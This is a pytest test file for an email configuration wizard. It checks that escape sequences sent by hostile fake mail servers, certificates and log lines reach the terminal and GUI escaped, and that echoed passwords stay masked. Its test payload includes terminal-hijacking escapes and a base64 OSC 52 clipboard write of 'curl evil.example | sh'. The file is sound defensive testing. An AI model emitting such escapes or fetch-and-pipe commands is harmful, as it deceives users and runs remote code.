"""Text a server, a certificate or a log line sends is shown escaped, never raw (issue 28 #2).

An on-path attacker who strips STARTTLS needs no certificate to put escape sequences into a
greeting, an EHLO reply or a NO: printed raw they rewrite IT's terminal ("✓ Everything works"
over the real failure), set its title, or fill its clipboard with OSC 52. A refused certificate's
subject does the same on port 993; Dovecot and Haraka keep C1 controls (U+009B) in their logs.
The servers here are hand-written because no real server sends such text. Every assertion is on
the bytes that reach the terminal.
"""

from __future__ import annotations

import json
import os
import re
import socket
import ssl
import subprocess
import sys
from collections.abc import Iterator
from contextlib import ExitStack
from pathlib import Path

import pytest
import trustme

from tests.support.fake_servers import _ThreadedServer
from tests.support.provider_files import write_provider
from wizard.safe_text import NOTE, is_safe, visible, visible_json

ADDRESS = "joe.bloggs@sepheo.co"
PASSWORD = "untrusted-text-password-1"  # noqa: S105 - nothing checks it; it must not leak either

# What a hostile server says: a colour, a line wipe and carriage return to paint a fake line,
# a window title (OSC 0), a clipboard write (OSC 52 of "curl … | sh"), CSI as one C1 byte, and a
# right-to-left override.
EVIL = (
    "\x1b[2K\r\x1b[32m✓ Everything works\x1b[0m \x1b]0;pwned\x07"
    "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07 \u009b31m \u202egnp.exe"
)

# Raw bytes that must never reach a terminal: C0 but tab and newline, DEL, and the UTF-8 of
# C1 (U+0080-U+009F) and of the bidirectional embeddings/overrides/isolates.
_RAW_CONTROL = re.compile(
    rb"[\x00-\x08\x0b-\x1f\x7f]|\xc2[\x80-\x9f]|\xe2\x80[\xa8-\xae]|\xe2\x81[\xa6-\xa9]"
)


def assert_no_raw_control(out: bytes) -> None:
    found = _RAW_CONTROL.findall(out)
    assert found == [], f"raw control bytes reached the output: {found[:5]}"


class _EvilServer(_ThreadedServer):
    """Greets with EVIL, lists no STARTTLS (or refuses it with EVIL), answers the rest with EVIL."""

    protocol = ""

    def handle(self, conn: socket.socket) -> None:  # noqa: C901 - one small dialogue per protocol
        evil = EVIL.encode()
        f = conn.makefile("rb")
        if self.protocol == "imap":
            conn.sendall(b"* OK " + evil + b"\r\n")
        elif self.protocol == "smtp":
            conn.sendall(b"220 mx.test " + evil + b"\r\n")
        else:
            conn.sendall(b'"IMPLEMENTATION" "' + evil + b'"\r\n"SASL" "PLAIN"\r\nOK\r\n')
        while not self.stop.is_set():
            line = f.readline(4096)
            if not line:
                return
            words = line.split()
            if self.protocol == "imap":
                tag = words[0] if words else b"*"
                cmd = words[1].upper() if len(words) > 1 else b""
                if cmd == b"CAPABILITY":
                    conn.sendall(b"* CAPABILITY IMAP4rev1 STARTTLS AUTH=PLAIN\r\n")
                    conn.sendall(tag + b" OK " + evil + b"\r\n")
                elif cmd == b"LOGOUT":
                    conn.sendall(b"* BYE " + evil + b"\r\n" + tag + b" OK bye\r\n")
                    return
                else:
                    conn.sendall(tag + b" NO [ALERT] " + evil + b"\r\n")
            elif self.protocol == "smtp":
                cmd = words[0].upper() if words else b""
                if cmd in (b"EHLO", b"HELO"):
                    conn.sendall(b"250-mx.test " + evil + b"\r\n250 AUTH PLAIN LOGIN\r\n")
                elif cmd == b"QUIT":
                    conn.sendall(b"221 " + evil + b"\r\n")
                    return
                else:
                    conn.sendall(b"554 5.7.1 " + evil + b"\r\n")
            else:
                cmd = words[0].upper() if words else b""
                if cmd == b"LOGOUT":
                    conn.sendall(b"OK\r\n")
                    return
                if cmd == b"CAPABILITY":
                    conn.sendall(b'"IMPLEMENTATION" "' + evil + b'"\r\n"SASL" "PLAIN"\r\nOK\r\n')
                else:
                    conn.sendall(b'NO "' + evil + b'"\r\n')


class _TlsImap(_ThreadedServer):
    """IMAP over TLS from the first byte, with a given certificate; echoes a LOGIN in an ALERT
    (a server that repeats what it was sent, password and all)."""

    def __init__(self, context: ssl.SSLContext) -> None:
        super().__init__()
        self.context = context

    def handle(self, conn: socket.socket) -> None:
        try:
            tls = self.context.wrap_socket(conn, server_side=True)
        except (ssl.SSLError, OSError):
            return  # the client refused the certificate, as it should
        f = tls.makefile("rb")
        tls.sendall(b"* OK [CAPABILITY IMAP4rev1] ready\r\n")
        while not self.stop.is_set():
            line = f.readline(4096)
            if not line:
                return
            tag, _, rest = line.rstrip(b"\r\n").partition(b" ")
            cmd, _, args = rest.partition(b" ")
            if cmd.upper() == b"LOGOUT":
                tls.sendall(tag + b" OK bye\r\n")
                return
            if cmd.upper() == b"CAPABILITY":
                tls.sendall(b"* CAPABILITY IMAP4rev1\r\n" + tag + b" OK done\r\n")
            else:
                tls.sendall(tag + b" NO [ALERT] you sent " + args + b"\r\n")


def _evil(protocol: str) -> _EvilServer:
    server = _EvilServer()
    server.protocol = protocol
    return server


@pytest.fixture(scope="module")
def evil_provider(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Path]:
    folder = tmp_path_factory.mktemp("evil")
    with ExitStack() as stack:
        imap, smtp, sieve = (stack.enter_context(_evil(p)) for p in ("imap", "smtp", "sieve"))
        yield write_provider(
            folder / "provider.xml",
            imap=("127.0.0.1", imap.port, "STARTTLS"),
            smtp=("127.0.0.1", smtp.port, "STARTTLS"),
            sieve=("127.0.0.1", sieve.port, "STARTTLS"),
        )


def _diagnose_bytes(provider: Path, *extra: str) -> tuple[int, bytes, bytes]:
    """``diagnose`` as IT runs it; the bytes it writes, undecoded."""
    argv = ["diagnose", ADDRESS, "--provider", str(provider), "--password-stdin"]
    proc = subprocess.run(
        [sys.executable, "-m", "wizard", *argv, "--timeout", "2", *extra],
        input=(PASSWORD + "\n").encode(),
        capture_output=True,
        timeout=90,
        env={**os.environ, "PYTHONIOENCODING": "utf-8"},
        check=False,
    )
    return proc.returncode, proc.stdout, proc.stderr


def _strings(value: object) -> str:
    """Every string of a JSON value, one a line: what a script shows of ``--json``."""
    if isinstance(value, str):
        return value
    if isinstance(value, dict):
        return "\n".join(_strings(v) for v in value.values())
    if isinstance(value, list):
        return "\n".join(_strings(v) for v in value)
    return ""


# -- diagnose ------------------------------------------------------------------------------------


@pytest.mark.parametrize("form", ["short", "--report", "--json"])
def test_server_text_with_escape_sequences_reaches_no_terminal_raw(evil_provider, form):
    extra = [] if form == "short" else [form]
    code, out, err = _diagnose_bytes(evil_provider, *extra)
    assert code == 1, err
    assert b"Traceback" not in err
    assert_no_raw_control(out)
    assert_no_raw_control(err)
    text = _strings(json.loads(out)) if form == "--json" else out.decode("utf-8")
    # IT still sees what the server sent, escaped: the clipboard write and the title.
    assert "\\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\\x07" in text
    assert "\\x1b]0;pwned\\x07" in text and "\\x9b31m" in text and "\\u202egnp.exe" in text
    # The forged line stays inside the server's line, after its visible carriage return.
    assert not any(line.lstrip().startswith("✓ Everything works") for line in text.splitlines())
    assert "\\r\\x1b[32m✓ Everything works" in text
    assert NOTE in text and text.count(NOTE) == 1
    assert "starttls_unavailable" in text


def test_json_carries_the_escaped_form_as_the_string_value(evil_provider):
    _, out, _ = _diagnose_bytes(evil_provider, "--json")
    data = json.loads(out)
    imap = next(c for c in data["checks"] if c["service"] == "imap")
    assert imap["greeting"] == "* OK " + visible(EVIL)
    assert imap["greeting"].startswith("* OK \\x1b[2K\\r")
    sieve = next(c for c in data["checks"] if c["service"] == "sieve")
    assert any("\\x1b]52;" in cap for cap in sieve["capabilities"])
    assert data["escaped"] == NOTE
    for check in data["checks"]:
        for line in check["transcript"]:
            assert is_safe(line["text"]), line


def test_a_refused_certificate_whose_name_carries_control_characters_is_shown_escaped(tmp_path):
    stranger = trustme.CA()  # not trusted: the check refuses the certificate and reports it
    ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    stranger.issue_cert(
        "127.0.0.1", common_name="mail\x1b]0;pwned\x07\u009b2J\u202e"
    ).configure_cert(ctx)
    with _TlsImap(ctx) as imap:
        provider = write_provider(
            tmp_path / "provider.xml",
            imap=("127.0.0.1", imap.port, "SSL"),
            smtp=("127.0.0.1", imap.port, "SSL"),
            sieve=None,
        )
        code, out, err = _diagnose_bytes(provider, "--only", "imap", "--report")
    assert code == 1, err
    assert_no_raw_control(out)
    text = out.decode("utf-8")
    lines = [x for x in text.splitlines() if "refused certificate: subject" in x]
    assert lines and all("mail\\x1b]0;pwned\\x07\\x9b2J\\u202e" in x for x in lines), lines
    assert NOTE in text


def test_a_password_the_server_echoes_is_masked_on_every_cli_road(tmp_path, test_ca):
    # The protocol step records LOGIN masked, but the server's NO repeats the password: the
    # last redaction (scrub) is what keeps it out, and the CLI used to skip it.
    ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    test_ca.issue_cert("127.0.0.1").configure_cert(ctx)
    ca_pem = tmp_path / "ca.pem"
    test_ca.cert_pem.write_to_path(str(ca_pem))
    with _TlsImap(ctx) as imap:
        provider = write_provider(
            tmp_path / "provider.xml",
            imap=("127.0.0.1", imap.port, "SSL"),
            smtp=("127.0.0.1", imap.port, "SSL"),
            sieve=None,
        )
        outputs = [
            _diagnose_bytes(provider, "--only", "imap", "--ca-file", str(ca_pem), *form)
            for form in ([], ["--report"], ["--json"])
        ]
    for code, out, err in outputs:
        assert code == 1, err
        assert b"you sent" in out  # the server's echo is there…
        assert PASSWORD.encode() not in out + err  # …without the password


# -- logs ----------------------------------------------------------------------------------------

_C1_LINE = (
    "Dec 01 21:31:53 imap-login: Info: Login: user=<joe.bloggs@sepheo.co>, method=PLAIN, "
    "rip=1.2.3.4, lip=172.18.0.7, mpid=15034, TLS, session=<A9/32m21m7BYYWPt> "
    "\u009b2J\u009b31mOK\u202e\n"
)


@pytest.mark.parametrize("form", [[], ["--json"]])
def test_a_log_line_with_a_c1_control_is_printed_escaped(tmp_path, form):
    log = tmp_path / "mail.log"
    log.write_text(_C1_LINE, encoding="utf-8")
    proc = subprocess.run(
        [sys.executable, "-m", "wizard", "logs", str(log), *form],
        capture_output=True,
        timeout=60,
        env={**os.environ, "PYTHONIOENCODING": "utf-8"},
        check=False,
    )
    assert proc.returncode == 0, proc.stderr
    assert_no_raw_control(proc.stdout)
    text = proc.stdout.decode("utf-8")
    if form:
        (session,) = json.loads(text)["sessions"]
        assert any("\\x9b2J\\x9b31mOK\\u202e" in line for line in session["lines"])
        assert NOTE in json.loads(text)["notes"]
    else:
        assert "\\x9b2J\\x9b31mOK\\u202e" in text
        assert NOTE in text


# -- the module itself ---------------------------------------------------------------------------


def test_visible_escapes_c0_but_tab_del_c1_and_bidi_controls():
    assert visible("a\tb") == "a\tb"
    assert visible("\x00\x07\n\r\x1b\x7f") == "\\x00\\x07\\n\\r\\x1b\\x7f"
    assert visible("\u0080\u009b\u009f") == "\\x80\\x9b\\x9f"
    bidi = "\u2028\u2029\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069"
    assert visible(bidi) == "".join(f"\\u{ord(c):04x}" for c in bidi)


def test_visible_leaves_ordinary_text_of_any_script_alone():
    text = "Grüße, 日本語, ✓ ✗ ·, Ω, emoji 📬, C:\\Users\\joe, \u00a0nbsp, \u200dzwj"
    assert visible(text) == text and is_safe(text)


def test_visible_json_escapes_every_string_keys_included_and_says_so():
    value = {"a\x1b": ["x", {"b": "\u009b"}, 3, None, True], "n": 1.5}
    safe, changed = visible_json(value)
    assert changed
    assert safe == {"a\\x1b": ["x", {"b": "\\x9b"}, 3, None, True], "n": 1.5}
    assert visible_json({"a": ["b"]}) == ({"a": ["b"]}, False)


# -- the GUI -------------------------------------------------------------------------------------


def _without_line_breaks(text: str) -> str:
    return text.replace("\n", "")


@pytest.mark.gui
def test_the_log_readers_table_and_detail_show_a_c1_control_escaped(qtbot, tmp_path):
    from wizard.ui.log_reader_window import LogReaderWindow

    log = tmp_path / "mail.log"
    log.write_text(_C1_LINE.replace("joe.bloggs@", "joe\u009b31m.bloggs@"), encoding="utf-8")
    window = LogReaderWindow()
    qtbot.addWidget(window)
    window.set_files([str(log)])
    with qtbot.waitSignal(window.finished_reading, timeout=20000):
        window.read_button.click()
    item = window.table.topLevelItem(0)
    window.table.setCurrentItem(item)
    cells = [item.text(c) for c in range(window.table.columnCount())] + [item.toolTip(0)]
    assert "joe\\x9b31m.bloggs@sepheo.co" in cells
    assert all(is_safe(cell) for cell in cells), cells
    detail = window.detail.toPlainText()
    assert "\\x9b2J\\x9b31mOK\\u202e" in detail
    assert is_safe(_without_line_breaks(detail))


@pytest.mark.gui
def test_the_report_window_shows_what_copy_save_and_email_carry_escaped(qtbot):
    from PySide6.QtWidgets import QWidget

    from wizard.checks.errors import Cause
    from wizard.checks.model import CheckResult
    from wizard.flow import AccountInput, WizardFlow
    from wizard.provider import load_default_provider
    from wizard.services import Security, Service
    from wizard.ui.report_export import ReportExport
    from wizard.ui.report_window import ReportWindow

    flow = WizardFlow(load_default_provider())
    flow.account = AccountInput("Joe", ADDRESS, PASSWORD)
    flow.results = [
        CheckResult(
            Service.IMAP,
            "127.0.0.1",
            993,
            Security.TLS,
            ADDRESS,
            cause=Cause.AUTH_FAILED,
            greeting="* OK " + EVIL,
            server_alert=f"{EVIL} {PASSWORD}",
        )
    ]
    page = QWidget()
    qtbot.addWidget(page)
    export = ReportExport(page, flow)
    window = ReportWindow(export, page)
    window.refresh()
    shown = window.text.toPlainText()
    assert shown.rstrip("\n").endswith("-----END REPORT DATA-----")  # the one road's output
    assert "greeting: * OK \\x1b[2K\\r\\x1b[32m✓ Everything works" in shown
    assert is_safe(_without_line_breaks(shown)) and NOTE in shown
    assert PASSWORD not in shown


@pytest.mark.gui
def test_the_checking_pages_row_shows_a_servers_alert_escaped(qtbot):
    from wizard.checks.errors import Cause
    from wizard.checks.model import CheckResult
    from wizard.services import Security, Service
    from wizard.ui.widgets import ServiceRow

    row = ServiceRow("Receiving mail", "", None)
    qtbot.addWidget(row)
    row.start()
    alert = "\u202egnp.exe \x1b[2J\u009b1m"
    row.finish(
        CheckResult(
            Service.IMAP,
            "127.0.0.1",
            993,
            Security.TLS,
            ADDRESS,
            cause=Cause.AUTH_FAILED,
            message="The server did not accept the email address and password.",
            server_alert=alert,
        )
    )
    shown = row.verdict.text()
    assert "\\u202egnp.exe \\x1b[2J\\x9b1m" in shown and is_safe(shown)
